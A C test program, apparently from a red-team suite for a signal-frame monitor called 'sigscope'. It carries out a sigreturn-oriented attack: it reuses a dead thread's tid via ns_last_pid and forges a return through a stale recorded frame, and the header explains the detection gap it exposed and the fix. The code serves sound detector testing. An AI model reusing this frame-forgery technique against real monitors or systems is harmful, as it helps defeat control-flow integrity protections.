/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_tid_reuse (red team round 31, D): a dead thread's attach-time frame, revived under its
 * tid. Thread X waits inside a SIGUSR1 handler when `sigscope -p` attaches, so the snapshot
 * records X's frame under (X's tid, frame). X then leaves the handler with pthread_exit (no
 * sigreturn) and exits. The main thread, older than sigscope, forks a child that gets X's old
 * tid (ns_last_pid: the red team cycled 32,000 forks), and the child returns through X's frame
 * in its copy of the memory. The context it resumes (X's, in x_spin) was never delivered to it;
 * finding itself in another process, it runs mal_pwned.
 *
 * Why it worked: the snapshot's records were keyed by tid and outlived their thread, and a fork
 * child of an older thread is judged as older: the dead thread's record excused the frame
 * (preexisting_unmatched, low). An exiting thread's records now go with it.
 *
 * Needs root (ns_last_pid); exits 77 (skip) when the pid cannot be had. Runs in attach mode: it
 * says "ready" with X inside its handler, and waits for the go. Prints "attacker pid N" (the
 * child), whose events are checked. Expected from sigscope: forged_frame (critical), the child
 * killed under --enforce before x_spin's check runs.
 */
#include "mal.h"

#include <pthread.h>
#include <sys/wait.h>

static volatile int x_tid, in_handler, release;
static volatile pid_t orig_pid;
static uint8_t *volatile frame_x;

/* X's loop, interrupted by its SIGUSR1: a raw getpid, so nothing but this loop runs. */
static void x_spin(void)
{
	for (;;) {
		long pid;

		__asm__ volatile("syscall"
				 : "=a"(pid)
				 : "0"((long)SYS_getpid)
				 : "rcx", "r11", "memory");
		if (pid != orig_pid)
			mal_pwned(); /* revived in another process */
	}
}

static void handler(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	frame_x = (uint8_t *)mal_genuine_frame(ucv);
	in_handler = 1;
	while (!release)
		usleep(1000);
	pthread_exit(NULL); /* leaves without a sigreturn: the frame stays recorded */
}

static void *x_main(void *arg)
{
	(void)arg;
	x_tid = (int)syscall(SYS_gettid);
	x_spin();
	return NULL;
}

/* A child with X's old tid, by ns_last_pid (another fork on the machine may take it first). */
static pid_t fork_as(int tid)
{
	for (int tries = 0; tries < 50; tries++) {
		FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "w");
		pid_t p;

		if (!f || fprintf(f, "%d", tid - 1) < 0 || fclose(f) != 0) {
			mal_say("cannot write ns_last_pid (root is needed)");
			_exit(MAL_EXIT_SKIP);
		}
		p = fork();
		if (p < 0)
			mal_die(MAL_EXIT_SETUP, "fork");
		if (p == 0) {
			if (syscall(SYS_gettid) != tid)
				_exit(MAL_EXIT_SETUP);
			return 0;
		}
		if (p == tid)
			return p;
		waitpid(p, NULL, 0);
	}
	mal_say("tid %d never came back", tid);
	_exit(MAL_EXIT_SETUP);
}

int main(void)
{
	pthread_t x;
	pid_t child;

	mal_init("srop_tid_reuse", 30);
	orig_pid = getpid();
	mal_handle(SIGUSR1, handler, 0);
	{
		sigset_t go;

		sigemptyset(&go);
		sigaddset(&go, SIGUSR2); /* blocked before the thread starts: X inherits the mask */
		if (sigprocmask(SIG_BLOCK, &go, NULL))
			mal_die(MAL_EXIT_SETUP, "sigprocmask");
	}
	if (pthread_create(&x, NULL, x_main, NULL))
		mal_die(MAL_EXIT_SETUP, "pthread_create");
	while (!x_tid)
		usleep(1000);
	usleep(10000);
	pthread_kill(x, SIGUSR1);
	while (!in_handler)
		usleep(1000);
	mal_say("thread %d waits in its handler, frame %p", x_tid, (void *)frame_x);
	mal_wait_go(); /* the runner attaches -p now: the snapshot records X's frame */
	release = 1;
	pthread_join(x, NULL);
	child = fork_as(x_tid);
	if (child == 0) {
		mal_say("attacker pid %d", (int)getpid());
		__asm__ volatile("mov %0, %%rsp\n\t"
				 "mov $15, %%eax\n\t"
				 "syscall\n\t"
				 "ud2\n\t"
				 :
				 : "r"(frame_x + 8)
				 : "memory");
		_exit(MAL_EXIT_NOTHING);
	}
	mal_exit_as_child(child);
}
